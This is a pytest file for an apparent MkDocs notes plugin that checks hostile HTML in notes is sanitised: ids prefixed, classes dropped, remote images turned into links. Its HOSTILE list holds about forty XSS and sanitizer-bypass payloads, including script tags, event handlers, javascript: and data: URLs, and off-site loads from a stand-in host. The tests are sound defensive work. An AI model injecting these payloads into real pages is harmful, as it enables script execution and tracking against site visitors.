"""A note's own HTML is as harmless on the site as it is on GitHub."""

from __future__ import annotations

import html5lib
import pytest

from aquip.core.parse import parse
from aquip.core.settings import Person, Settings
from mkdocs_aquip.render.page import render
from mkdocs_aquip.render.surroundings import Surroundings

SETTINGS = Settings(people={"sam": Person("sam", "Sam Reyes")})

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<video poster=//evil.example/p.png><source src=//evil.example/v.mp4></video>",
    "<picture><source srcset=//evil.example/x.png><img src=x.png></picture>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='md-overlay' data-md-component=search role=dialog tabindex=0>x</div>",
    "<label for=__drawer>x</label>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<table background=//evil.example/x.png><tr><td>x</td></tr></table>",
    "![x](//evil.example/x.png)",
    "<img src='\\\\evil.example/x.png'>",
    "<img src='/\t/evil.example/x.png'>",
    "![x](https://evil.example/x.png)",
    "- [ ] @sam <b title='(due:: 2026-01-01)\"><script>alert(1)</script>'>x</b> (due:: 2026-01-02)",
    '- [ ] x (goal:: "><script>alert(1)</script>)',
    "- [ ] x (see:: <img/src=x/onerror=alert(1)>)",
    "- [ ] @<script>alert(1)</script> x",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script> <b onclick=alert(1)>x</b>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
]

ALLOWED = {
    "a": {"href", "class", "title", "id", "name", "aria-label", "data-search-exclude"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
}
COMMON = {"id", "class", "title", "align", "lang", "dir", "valign", "data-search-exclude"}
OURS = {"data-due", "data-state", "role", "aria-label", "aria-hidden", "datetime", "open", "start"}


def rendered(text: str) -> str:
    """Render a note whose items stand under Actions."""
    note = parse(f"## Actions\n\n{text}\n", path="a.md", uri="a.md", settings=SETTINGS)
    return render(note, Surroundings(SETTINGS)).html


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Read HTML as a browser would."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [(str(e.tag), dict(e.attrib)) for e in tree.iter() if isinstance(e.tag, str)]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_is_disarmed(text: str) -> None:
    """No script, style, form, frame, handler or address of another host survives."""
    for tag, attributes in elements(rendered(text)):
        assert tag not in {
            *("script", "style", "iframe", "object", "embed", "form", "input", "button", "link"),
            *("meta", "base", "svg", "math", "video", "audio", "source", "textarea", "label"),
        }
        assert set(attributes) - ALLOWED.get(tag, set()) - COMMON - OURS == set()
        assert (
            not attributes.get("href", "")
            .lstrip()
            .lower()
            .startswith(("javascript:", "data:", "vbscript:"))
        )
        source = attributes.get("src", "").replace("\\", "/").replace("\t", "")
        assert "//" not in source
        assert "data:" not in source


def test_ids_and_names_get_a_prefix() -> None:
    """What a note calls itself can't stand in for an id of the page."""
    html = rendered('<p id="__search">x</p><a name="^abcd" id=actions>y</a>')
    ids = {a.get("id") for _, a in elements(html)} - {None}
    assert {"actions", "user-content-__search", "user-content-actions"} == ids
    assert 'name="user-content-^abcd"' in html


def test_classes_and_data_attributes_are_dropped() -> None:
    """A note can't dress up as one of the theme's parts, nor as one of aquip's."""
    html = rendered('<span class="aq-box aq-box--done" data-aq-rows="actions" role="img">x</span>')
    assert "<span>x</span>" in html


def test_comments_never_show() -> None:
    """Prompts that aquip writes as comments are in no page."""
    assert "secret" not in rendered("a <!-- secret --> b\n\n<!-- secret -->\n")


def test_a_remote_image_becomes_a_link() -> None:
    """Nobody learns who reads a note: an image elsewhere is linked to, not fetched."""
    html = rendered("![chart](https://example.org/chart.png)")
    assert "<img" not in html
    assert 'href="https://example.org/chart.png"' in html
    assert ">chart</a>" in html


def test_an_input_of_the_notes_own_is_a_mere_box() -> None:
    """Nothing in a note can be typed into."""
    assert 'class="aq-box aq-box--open"' in rendered("<input type=text value=x>")
